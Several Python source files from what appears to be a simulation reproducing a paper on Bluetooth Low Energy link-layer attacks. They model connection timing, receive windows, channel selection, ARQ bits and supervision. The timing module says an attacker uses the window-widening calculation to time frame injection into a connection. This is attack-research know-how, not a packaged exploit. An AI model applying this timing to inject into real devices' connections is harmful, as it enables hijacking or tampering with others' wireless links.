  ``w = (SCA_M + SCA_S)/1e6 * (t_nextAnchor - t_lastAnchor) + 32 µs``.

The attacker computes the same ``w`` (estimating the Slave's SCA at the
20 ppm worst case) and fires at ``t_pred - w``.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import LinkLayerError
from repro.sim.events import TIME_EPS_US
from repro.utils.units import PPM, SLOT_US

#: Constant term of the widening formula (active clock jitter allowance).
WINDOW_WIDENING_CONSTANT_US = 32.0

#: Worst-case Slave SCA the attacker assumes when it cannot know it (§V-C).
WORST_CASE_SLAVE_SCA_PPM = 20.0


@dataclass(frozen=True)
class Window:
    """A half-open time interval in true µs."""

    start_us: float
    end_us: float

    def __post_init__(self) -> None:
        if self.end_us < self.start_us:
            raise LinkLayerError(
                f"window ends before it starts: [{self.start_us}, {self.end_us}]"
            )

    @property
    def duration_us(self) -> float:
        """Window length."""
        return self.end_us - self.start_us

    def contains(self, t_us: float) -> bool:
        """Whether ``t_us`` falls inside the window (inclusive bounds)."""
        return self.start_us - TIME_EPS_US <= t_us <= self.end_us + TIME_EPS_US


def window_widening_us(
    master_sca_ppm: float,
    slave_sca_ppm: float,
    interval_since_anchor_us: float,
) -> float:
    """Window widening ``w`` per paper eq. 4.

    Args:
        master_sca_ppm: Master sleep-clock accuracy in ppm.
        slave_sca_ppm: Slave sleep-clock accuracy in ppm.
        interval_since_anchor_us: time between the last observed anchor and
            the predicted next anchor (``d_connInterval`` when latency is 0,
            eq. 5).
    """
    if master_sca_ppm < 0 or slave_sca_ppm < 0:
        raise LinkLayerError("SCA values must be non-negative")
    if interval_since_anchor_us < 0:
        raise LinkLayerError(
            f"negative anchor interval: {interval_since_anchor_us}"
        )
    drift = (master_sca_ppm + slave_sca_ppm) / PPM * interval_since_anchor_us
    return drift + WINDOW_WIDENING_CONSTANT_US


def receive_window(
    predicted_anchor_us: float,
    master_sca_ppm: float,
    slave_sca_ppm: float,
    interval_since_anchor_us: float,
) -> Window:
    """The Slave's receive window around a predicted anchor (paper Fig. 4)."""
    w = window_widening_us(master_sca_ppm, slave_sca_ppm, interval_since_anchor_us)
    return Window(predicted_anchor_us - w, predicted_anchor_us + w)


def transmit_window(
    reference_end_us: float, win_offset_slots: int, win_size_slots: int
) -> Window:
    """The transmit window after CONNECT_REQ or a connection update.

    Args:
        reference_end_us: end of the CONNECT_REQ transmission (``t_init``,
            eq. 1) or the old-schedule anchor at the update instant (Fig. 2).
        win_offset_slots: *WinOffset* in 1.25 ms slots.
        win_size_slots: *WinSize* in 1.25 ms slots (1-8).
    """
    if win_offset_slots < 0:
        raise LinkLayerError(f"negative WinOffset: {win_offset_slots}")
    if not 1 <= win_size_slots <= 8:
        raise LinkLayerError(f"WinSize must be 1-8 slots, got {win_size_slots}")
    start = reference_end_us + SLOT_US + win_offset_slots * SLOT_US
    return Window(start, start + win_size_slots * SLOT_US)


def anchor_after(anchor_us: float, hop_interval_slots: int, events: int = 1) -> float:
    """Predicted anchor ``events`` connection events after ``anchor_us``."""
    if hop_interval_slots <= 0:
        raise LinkLayerError(f"hop interval must be > 0: {hop_interval_slots}")
    if events < 0:
        raise LinkLayerError(f"events must be >= 0: {events}")
    return anchor_us + events * hop_interval_slots * SLOT_US
