"""BLE Link Layer: PDUs, channel selection, timing, connection state machines."""

from repro.ll.access_address import (
    ADVERTISING_ACCESS_ADDRESS,
    generate_access_address,
    is_valid_access_address,
)
from repro.ll.connection import ConnectionParams, ConnectionState
from repro.ll.csa1 import Csa1
from repro.ll.csa2 import Csa2
from repro.ll.timing import (
    anchor_after,
    receive_window,
    transmit_window,
    window_widening_us,
)

__all__ = [
    "ADVERTISING_ACCESS_ADDRESS",
    "ConnectionParams",
    "ConnectionState",
    "Csa1",
    "Csa2",
    "anchor_after",
    "generate_access_address",
    "is_valid_access_address",
    "receive_window",
    "transmit_window",
    "window_widening_us",
]
