"""Connection parameters and per-connection Link-Layer state.

:class:`ConnectionParams` is the immutable parameter block negotiated in
CONNECT_REQ (paper Table II); :class:`ConnectionState` is the mutable state
a device maintains while connected: event counter, channel selection,
acknowledgement bits, pending update procedures and supervision timing
(paper §III-B5..8).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field, replace
from typing import Optional, Union

from repro.errors import ConnectionStateError, LinkLayerError
from repro.ll.csa1 import Csa1
from repro.ll.csa2 import Csa2
from repro.ll.pdu.advertising import LLData
from repro.ll.pdu.control import (
    PHY_1M,
    PHY_2M,
    PHY_CODED,
    ChannelMapInd,
    ConnectionUpdateInd,
    PhyUpdateInd,
)
from repro.ll.pdu.data import DataPdu
from repro.phy.modulation import PhyMode
from repro.sim.clock import sca_field_to_ppm
from repro.utils.units import SLOT_US


class Role(enum.Enum):
    """Connected-mode role (paper §III-A)."""

    MASTER = "master"
    SLAVE = "slave"


@dataclass(frozen=True)
class ConnectionParams:
    """The parameter block of a connection (CONNECT_REQ LLData + CSA choice).

    Attributes:
        access_address: 32-bit AA of every frame of this connection.
        crc_init: 24-bit CRC seed.
        win_size: transmit-window size in 1.25 ms slots.
        win_offset: transmit-window offset in 1.25 ms slots.
        interval: hop interval in 1.25 ms slots.
        latency: slave latency (events the Slave may skip).
        timeout: supervision timeout in 10 ms units.
        channel_map: 37-bit used-channel bitmask.
        hop_increment: CSA#1 increment (5-16).
        master_sca_ppm: Master's declared sleep-clock accuracy (ppm).
        use_csa2: select CSA#2 (BLE 5.0) instead of CSA#1.
    """

    access_address: int
    crc_init: int
    win_size: int
    win_offset: int
    interval: int
    latency: int
    timeout: int
    channel_map: int
    hop_increment: int
    master_sca_ppm: float = 50.0
    use_csa2: bool = False

    @classmethod
    def from_ll_data(cls, ll_data: LLData, use_csa2: bool = False
                     ) -> "ConnectionParams":
        """Build from a decoded CONNECT_REQ LLData block."""
        return cls(
            access_address=ll_data.access_address,
            crc_init=ll_data.crc_init,
            win_size=ll_data.win_size,
            win_offset=ll_data.win_offset,
            interval=ll_data.interval,
            latency=ll_data.latency,
            timeout=ll_data.timeout,
            channel_map=ll_data.channel_map,
            hop_increment=ll_data.hop_increment,
            master_sca_ppm=sca_field_to_ppm(ll_data.sca),
            use_csa2=use_csa2,
        )

    @property
    def interval_us(self) -> float:
        """``d_connInterval`` (paper eq. 2)."""
        return self.interval * SLOT_US

    @property
    def timeout_us(self) -> float:
        """Supervision timeout in µs."""
        return self.timeout * 10_000.0

    def updated(self, update: ConnectionUpdateInd) -> "ConnectionParams":
        """Parameters after a connection-update procedure applies."""
        return replace(
            self,
            win_size=update.win_size,
            win_offset=update.win_offset,
            interval=update.interval,
            latency=update.latency,
            timeout=update.timeout,
        )

    def with_channel_map(self, channel_map: int) -> "ConnectionParams":
        """Parameters after a channel-map-update procedure applies."""
        return replace(self, channel_map=channel_map)


ChannelSelector = Union[Csa1, Csa2]


def make_channel_selector(params: ConnectionParams) -> ChannelSelector:
    """Instantiate the channel-selection algorithm for ``params``."""
    if params.use_csa2:
        return Csa2(params.access_address, params.channel_map)
    return Csa1(params.hop_increment, params.channel_map)


@dataclass
class PendingUpdate:
    """A connection-update or channel-map procedure awaiting its instant."""

    instant: int
    update: Union[ConnectionUpdateInd, ChannelMapInd]


class ConnectionState:
    """Mutable per-connection Link-Layer state for one device.

    Tracks what paper §III-B describes: the connection event counter, the
    channel selection state, the 1-bit ARQ counters (transmitSeqNum /
    nextExpectedSeqNum), pending instant-based procedures, and supervision.

    Args:
        params: negotiated parameters.
        role: which side of the connection this device is.
    """

    def __init__(self, params: ConnectionParams, role: Role,
                 created_local_us: float = 0.0):
        self.params = params
        self.role = role
        self.created_local_us = created_local_us
        self.event_count = 0
        self.selector = make_channel_selector(params)
        # Hoisted out of channel_for_next_event: the selector kind is fixed
        # for the lifetime of the connection.
        self._selector_is_csa2 = isinstance(self.selector, Csa2)
        self.current_channel: Optional[int] = None
        # ARQ bits, per paper §III-B6.
        self.transmit_seq_num = 0
        self.next_expected_seq_num = 0
        self._last_sent: Optional[DataPdu] = None
        self._peer_acked_last = True
        # Procedures.
        self.pending_update: Optional[PendingUpdate] = None
        self.pending_channel_map: Optional[PendingUpdate] = None
        self.pending_phy: Optional[PendingUpdate] = None
        # Supervision: local-clock time of the last CRC-valid frame.
        self.last_valid_rx_local_us: Optional[float] = None
        self.established = False
        self.terminated = False
        self.terminate_reason: Optional[str] = None

    # ------------------------------------------------------------------
    # Channel selection
    # ------------------------------------------------------------------

    def channel_for_next_event(self) -> int:
        """Advance to the next connection event's channel.

        Must be called exactly once per connection event (including events
        the device skips or misses — the hop sequence advances regardless).
        """
        if self._selector_is_csa2:
            self.current_channel = self.selector.channel_for_event(self.event_count)
        else:
            self.current_channel = self.selector.next_channel()
        return self.current_channel

    # ------------------------------------------------------------------
    # Instant-based procedures (paper §III-B7, Fig. 2)
    # ------------------------------------------------------------------

    def schedule_update(self, update: ConnectionUpdateInd) -> None:
        """Store a connection update to apply at its instant."""
        if self.pending_update is not None:
            raise ConnectionStateError("a connection update is already pending")
        if not self.instant_in_future(update.instant):
            raise ConnectionStateError(
                f"update instant {update.instant} is in the past "
                f"(event count {self.event_count})"
            )
        self.pending_update = PendingUpdate(update.instant, update)

    def schedule_channel_map(self, update: ChannelMapInd) -> None:
        """Store a channel-map update to apply at its instant."""
        if self.pending_channel_map is not None:
            raise ConnectionStateError("a channel map update is already pending")
        if not self.instant_in_future(update.instant):
            raise ConnectionStateError(
                f"channel map instant {update.instant} is in the past"
            )
        self.pending_channel_map = PendingUpdate(update.instant, update)

    def schedule_phy(self, update: "PhyUpdateInd") -> None:
        """Store a PHY update to apply at its instant."""
        if self.pending_phy is not None:
            raise ConnectionStateError("a PHY update is already pending")
        if not self.instant_in_future(update.instant):
            raise ConnectionStateError(
                f"PHY update instant {update.instant} is in the past"
            )
        self.pending_phy = PendingUpdate(update.instant, update)

    def take_due_phy(self) -> Optional["PhyUpdateInd"]:
        """Pop the PHY update if its instant is the current event."""
        pending = self.pending_phy
        if pending is not None and pending.instant == self.event_count:
            self.pending_phy = None
            return pending.update  # type: ignore[return-value]
        return None

    def instant_in_future(self, instant: int) -> bool:
        """Whether ``instant`` is ahead of the current event counter.

        The comparison is modulo 2^16 with the spec's half-range rule: an
        instant is in the future if ``(instant - event_count) mod 2^16`` is
        less than 32767.
        """
        return 0 < ((instant - self.event_count) & 0xFFFF) < 32767

    def take_due_channel_map(self) -> Optional[ChannelMapInd]:
        """Pop the channel-map update if its instant is the current event."""
        pending = self.pending_channel_map
        if pending is not None and pending.instant == self.event_count:
            self.pending_channel_map = None
            assert isinstance(pending.update, ChannelMapInd)
            return pending.update
        return None

    def take_due_update(self) -> Optional[ConnectionUpdateInd]:
        """Pop the connection update if its instant is the current event."""
        pending = self.pending_update
        if pending is not None and pending.instant == self.event_count:
            self.pending_update = None
            assert isinstance(pending.update, ConnectionUpdateInd)
            return pending.update
        return None

    def apply_channel_map(self, update: ChannelMapInd) -> None:
        """Apply a due channel-map update to params and selector."""
        self.params = self.params.with_channel_map(update.channel_map)
        self.selector.set_channel_map(update.channel_map)

    def apply_update(self, update: ConnectionUpdateInd) -> None:
        """Apply a due connection update to params (timing handled by roles)."""
        self.params = self.params.updated(update)

    # ------------------------------------------------------------------
    # 1-bit ARQ (paper §III-B6, the consistency core of eq. 6)
    # ------------------------------------------------------------------

    def bits_for_transmit(self) -> tuple[int, int]:
        """(SN, NESN) to stamp on the next transmitted PDU."""
        return self.transmit_seq_num, self.next_expected_seq_num

    def on_received_bits(self, sn: int, nesn: int) -> tuple[bool, bool]:
        """Process the SN/NESN of a CRC-valid received frame.

        Returns:
            ``(is_new_data, peer_acked)`` — whether the peer's payload is
            new (vs a retransmission we must ignore), and whether the peer
            acknowledged our last PDU (so we may send fresh data).
        """
        is_new_data = sn == self.next_expected_seq_num
        if is_new_data:
            self.next_expected_seq_num ^= 1
        peer_acked = nesn != self.transmit_seq_num
        if peer_acked:
            self.transmit_seq_num ^= 1
            self._peer_acked_last = True
        else:
            self._peer_acked_last = False
        return is_new_data, peer_acked

    @property
    def must_retransmit(self) -> bool:
        """Whether the last sent PDU needs retransmission."""
        return not self._peer_acked_last and self._last_sent is not None

    def note_sent(self, pdu: DataPdu) -> None:
        """Record the PDU just handed to the radio (for retransmission)."""
        self._last_sent = pdu
        self._peer_acked_last = False

    @property
    def last_sent(self) -> Optional[DataPdu]:
        """The most recently transmitted PDU."""
        return self._last_sent

    # ------------------------------------------------------------------
    # Supervision
    # ------------------------------------------------------------------

    def note_valid_rx(self, local_time_us: float) -> None:
        """Reset the supervision timer after a CRC-valid frame."""
        self.last_valid_rx_local_us = local_time_us
        self.established = True

    def supervision_expired(self, local_time_us: float) -> bool:
        """Whether the supervision timeout has elapsed without traffic.

        Before the connection is established the spec uses
        ``6 * interval`` as the limit; afterwards the negotiated timeout.
        """
        if self.last_valid_rx_local_us is None:
            return local_time_us - self.created_local_us > 6 * self.params.interval_us
        limit = (
            self.params.timeout_us
            if self.established
            else 6 * self.params.interval_us
        )
        return local_time_us - self.last_valid_rx_local_us > limit

    def terminate(self, reason: str) -> None:
        """Mark the connection closed."""
        self.terminated = True
        self.terminate_reason = reason


def phy_mode_from_mask(mask: int) -> PhyMode:
    """Map a PHY-update bitmask to a :class:`PhyMode` (first bit set wins)."""
    if mask & PHY_2M:
        return PhyMode.LE_2M
    if mask & PHY_CODED:
        return PhyMode.LE_CODED_S8
    if mask & PHY_1M:
        return PhyMode.LE_1M
    raise LinkLayerError(f"empty PHY mask: {mask:#x}")
